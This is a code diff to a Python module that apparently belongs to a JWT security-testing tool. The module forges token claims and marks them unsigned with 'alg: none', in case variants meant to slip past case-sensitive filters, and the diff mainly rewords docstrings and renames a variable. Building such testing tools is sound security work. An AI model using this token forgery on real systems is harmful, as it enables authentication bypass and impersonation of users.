@@ -1,4 +1,4 @@
-"""The header says that there is no signature."""
+"""Unsigned token: the header declares that there is no signature (``alg: none``)."""
 
 from typing import ClassVar
 
@@ -11,7 +11,7 @@ SPELLINGS = ("none", "None", "nOnE")
 
 
 class UnsignedToken(TokenAttack):
-    """``alg: none`` in the spellings that lists of refused words have missed."""
+    """Uses ``alg: none`` also in spellings that case-sensitive filters miss."""
 
     name: ClassVar[str] = "unsigned_token"
     summary: ClassVar[str] = "forged claims with alg none and no signature"
@@ -20,10 +20,10 @@ class UnsignedToken(TokenAttack):
 
     def prepare(self, ctx: Context) -> Flow[Preparation]:
         """Rewrite the claims."""
-        made = yield from forge_claims(ctx, self.assets)
-        if isinstance(made, NotApplicable):
-            return made
+        forged = yield from forge_claims(ctx, self.assets)
+        if isinstance(forged, NotApplicable):
+            return forged
         return tuple(
-            Candidate(f"alg {word}", made.seal(forge_unsigned(made.claims, made.kid, word, made.typ)))
+            Candidate(f"alg {word}", forged.seal(forge_unsigned(forged.claims, forged.kid, word, forged.typ)))
             for word in SPELLINGS
         )
